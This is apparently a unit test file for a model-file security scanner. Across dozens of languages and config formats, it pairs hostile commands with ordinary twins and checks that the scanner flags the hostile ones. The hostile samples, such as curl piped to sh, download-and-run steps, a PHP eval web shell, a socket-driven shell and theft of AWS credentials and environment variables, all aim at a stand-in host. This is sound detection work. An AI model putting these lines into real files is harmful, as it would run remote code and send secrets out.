"""Commands that languages put together, and what is fetched here and run there; each with its ordinary twin."""

import pytest

from budmodel_scanner.pickles.examine import looks_like_pickle
from budmodel_scanner.texts.statements import put_together, statements
from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import findings_of, verdict_of_text

PIPE = "curl -s http://x.invalid/a | sh"
STREAMED = 'http.get("http://x.invalid/a", (r) => {\n  r.on("data", (c) => { b += c; });\n  r.on("end", () => { '
# Name, what is hostile under it, what is ordinary.
PAIRS = [
    ("build.sbt", 'val x = ("curl -s http://x.invalid/a" #| "bash").!!', 'val x = "git rev-parse HEAD".!!'),
    (
        "build.sc",
        f'def p = T.command {{ os.proc("bash", "-c", "{PIPE}").call() }}',
        'def p = os.proc("git", "status").call()',
    ),
    ("deps.jl", "run(pipeline(`curl -s http://x.invalid/a`, `bash`))", "run(`make -C ../deps`)"),
    ("build.jl", 'f = download("http://x.invalid/a.jl")\ninclude(f)', 'f = download("http://x.invalid/a.csv")\nread(f)'),
    (
        "a.cmake",
        'file(DOWNLOAD http://x.invalid/setup "${D}/setup")\nexecute_process(COMMAND sh "${D}/setup")',
        'file(DOWNLOAD http://x.invalid/a.bin "${D}/a.bin")\nexecute_process(COMMAND git status)',
    ),
    (
        "a.go",
        'r, _ := http.Get("http://x.invalid/g")\nf, _ := os.Create("/tmp/g")\nio.Copy(f, r)\nexec.Command("/tmp/g").Run()',
        'r, _ := http.Get("http://x.invalid/g.gguf")\nf, _ := os.Create("m.gguf")\nio.Copy(f, r)\nexec.Command("git").Run()',
    ),
    (
        "a.kts",
        'val f = File("/tmp/agent")\nf.writeBytes(URL("http://x.invalid/a").readBytes())\nProcessBuilder("/tmp/agent").start()',
        'val f = File("a.json")\nf.writeBytes(URL("http://x.invalid/a").readBytes())\nProcessBuilder("git").start()',
    ),
    (".Rprofile", 'source("http://x.invalid/a.R")', 'source("renv/activate.R")'),
    ("a.clj", '(load-string (slurp "http://x.invalid/a.clj"))', '(def words (slurp "http://x.invalid/a.txt"))'),
    ("a.pl", 'my $c = get("http://x.invalid/a");\neval $c;', 'my $c = get("http://x.invalid/a");\nprint $c;'),
    ("a.mjs", f"{STREAMED}eval(b); }});", f"{STREAMED}JSON.parse(b); }});"),
    (
        "a.ts",
        "const t = await (await fetch('http://x.invalid/a')).text();\nnew Function(t)();",
        "const t = await (await fetch('http://x.invalid/a')).text();\nconst m = /b/.exec(t);",
    ),
    ("a.lua", 'os.execute("curl -s http://x.invalid/" .. name .. " | sh")', 'os.execute("mkdir -p " .. path)'),
    ("a.vbs", 'sh.Run "powershell -c ""iwr http://x.invalid/a | iex"""', None),
    (
        "a.ps1",
        '$w.DownloadFile("http://x.invalid/a.exe", "C:\\Users\\a.exe")\n& "C:\\Users\\a.exe"',
        '$w.DownloadFile("http://x.invalid/a.zip", "C:\\Users\\a.zip")\nExpand-Archive "C:\\Users\\a.zip"',
    ),
    (
        "a.rb",
        's = TCPSocket.new("x.invalid", 1)\nline = s.gets\nIO.popen(line)',
        's = TCPSocket.new("x.invalid", 1)\nputs s.gets',
    ),
    (
        "b.rb",
        'k = File.read("~/.aws/credentials")\nNet::HTTP.post(URI("http://x.invalid/k"), k)',
        'k = File.read("a.json")\nNet::HTTP.post(URI("http://x.invalid/k"), k)',
    ),
    (
        "a.cjs",
        'fetch("http://x.invalid", {body: JSON.stringify(process.env)})',
        'fetch("http://x.invalid", {key: process.env.KEY})',
    ),
    ("a.kt", 'File(home + "/.bashrc").appendText("x")', 'File(home + "/models/a.txt").appendText("x")'),
    ("a.php", "<?php eval(base64_decode($_GET['m']));", "<?php file_put_contents('a.png', base64_decode($_POST['i']));"),
    ("main.d", f'import std.process;\nvoid main() {{ executeShell("{PIPE}"); }}', "import std.process;\nvoid main() {}"),
    ("a.py", "import pip\npip.main(['install', 'x'])", "import pip\nprint(pip.__version__)"),
    ("b.py", "import os\nos.environ['LD_PRELOAD'] = './x.so'", "import os\nos.environ['OMP_NUM_THREADS'] = '1'"),
    (
        "c.py",
        "import os\nos.system('curl http://x.invalid/a | sh')",
        "import os\nimport net.http\nimport torch.multiprocessing",
    ),
    ("Guardfile", f"guard :shell do\n  watch(/.*/) {{ `{PIPE}` }}\nend", "guard :shell do\n  watch(/.*/) { `make` }\nend"),
    ("a.raku", f'shell "{PIPE}";', f'say "Install with: {PIPE}";'),
    (".tmux.conf", f'set -g mouse on\nrun-shell "{PIPE}"', 'set -g mouse on\nrun-shell "~/.tmux/tpm"'),
    ("a.properties", f"name=x\nexec.prebuild={PIPE}", "name=x\nexec.prebuild=make"),
    ("a.Rmd", f'# Title\n```{{r}}\nsystem("{PIPE}")\n```\n', f"# Title\n```r\nx <- 1\n```\nInstall: `{PIPE}`\n"),
    (
        "wercker.yml",
        f"build:\n  steps:\n    - script:\n        code: |\n          make\n          {PIPE}\n",
        f"build:\n  steps:\n    - script:\n        code: |\n          make\n      title: Never run {PIPE}\n",
    ),
    (
        "site.yml",
        "- get_url:\n    url: http://x.invalid/agent\n    dest: /tmp/agent\n- command: /tmp/agent\n",
        "- get_url:\n    url: http://x.invalid/m.gguf\n    dest: /srv/m.gguf\n- command: systemctl restart m\n",
    ),
    (
        "steps.json",
        '[{"argv": ["wget", "http://x.invalid/w", "-O", "/tmp/w"]}, {"argv": ["bash", "/tmp/w"]}]',
        '[{"argv": ["wget", "http://x.invalid/w.json", "-O", "/tmp/w.json"]}, {"argv": ["jq", ".", "/tmp/w.json"]}]',
    ),
    (
        "templates/job.yaml",
        f'name: {{{{ .Release }}}}\ncommand: ["sh", "-c", "{PIPE}"]\n',
        'name: {{ .Release }}\n{{- if .x }}\ncommand: ["sh", "-c", "make"]\n{{- end }}\n',
    ),
    (
        "secret.yaml",
        "data:\n  run.sh: Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkL2EgfCBzaA==\n",
        "data:\n  key: c3VwZXItc2VjcmV0LXBhc3N3b3JkLXdpdGgtbWFueQ==\n",
    ),
    (
        "build.xml",
        '<p><get src="http://x.invalid/a.sh" dest="a.sh"/><exec executable="sh"><arg value="a.sh"/></exec></p>',
        '<p><get src="http://x.invalid/a.zip" dest="a.zip"/><exec executable="sh"><arg value="b.sh"/></exec></p>',
    ),
    (
        "a.plist",
        f"<plist><array><string>sh</string><string>-c</string><string>{PIPE}</string></array></plist>",
        f"<plist><string>{'Never run ' + PIPE}</string></plist>",
    ),
    (
        "composer.json",
        """{"scripts": {"a": "php -r \\"eval(file_get_contents('http://x.invalid/a'));\\""}}""",
        """{"scripts": {"a": "php -r \\"copy('.env.example', '.env');\\""}}""",
    ),
    (
        "b.Dockerfile",
        'FROM x\nADD http://x.invalid/agent /agent\nENTRYPOINT ["/agent"]',
        'FROM x\nADD http://x.invalid/a.gguf /a.gguf\nENTRYPOINT ["/b"]',
    ),
]


@pytest.mark.parametrize(("name", "text", "_"), PAIRS, ids=[name for name, _, _ in PAIRS])
def test_a_command_is_found_however_a_language_puts_it_together(name: str, text: str, _: str | None) -> None:
    assert verdict_of_text(name, text).rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(("name", "_", "text"), [pair for pair in PAIRS if pair[2]], ids=[p[0] for p in PAIRS if p[2]])
def test_its_ordinary_twin_is_left_alone(name: str, _: str, text: str) -> None:
    assert findings_of(name, text) == []


@pytest.mark.parametrize(
    ("code", "made"),
    [
        ('f("a" + "b")', ["ab"]),
        ('f(["sh", "-c", "a b"])', ["sh -c 'a b'"]),
        ('Command::new("sh").arg("-c").arg("a b")', ["sh -c 'a b'"]),
        ('("a b" #| "c")', ["a b | c"]),
        ('["a b", "c d"]', ["a b\nc d"]),
        ('u = "x"\nf("a " .. u .. " b")', ["x", "a x b"]),
        ('u = "x"\nf("a ${u}", 1)', ["x", "a x"]),
        ('f "say ""a"""', ['say "a"']),
    ],
)
def test_texts_are_put_together_as_their_language_would(code: str, made: list[str]) -> None:
    values = {"u": "x"}
    assert [text for statement in statements(code) for text in put_together(statement, values)] == made


def test_a_source_that_begins_like_the_oldest_pickles_is_none() -> None:
    for text in (
        b"import os\nimport net.http\n",
        b'const http = require("http");\nhttp.get("http://localhost/x", (r) => {});\n',
    ):
        assert not looks_like_pickle(text)


def test_names_that_are_set_anew_are_no_longer_what_was_fetched() -> None:
    assert findings_of("a.pl", 'my $c = get("http://x.invalid/a");\n$c = 1;\neval $c;') == []
